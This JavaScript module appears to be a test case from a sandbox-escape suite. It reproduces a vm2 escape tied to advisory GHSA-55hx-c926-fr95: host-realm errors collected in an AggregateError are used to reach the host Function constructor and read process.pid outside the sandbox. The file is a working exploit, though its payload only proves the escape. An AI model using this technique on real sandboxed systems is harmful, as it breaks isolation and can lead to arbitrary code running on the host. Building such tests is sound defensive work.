// Collects errors that the host has thrown in an aggregate and walks from each of them.
// Class: errors
// Advisory: GHSA-55hx-c926-fr95 (vm2: errors inside an AggregateError)
// Win: the payload holds the process id.
// Control: vm
// Platform: patchworks
module.exports = async function (data) {
  if (!data.variables.attack) return { payload: data.payload };
  const rejections = [1, 2].map(async () => require('no such package ' + Math.floor(Math.random() * 10)));
  try {
    await Promise.any(rejections);
  } catch (aggregate) {
    for (const error of aggregate.errors) {
      try {
        return { payload: 'ESCAPED:' + error.constructor.constructor('return process.pid')() };
      } catch {
        // an error of the hook's own realm
      }
    }
  }
  return { payload: data.payload };
};
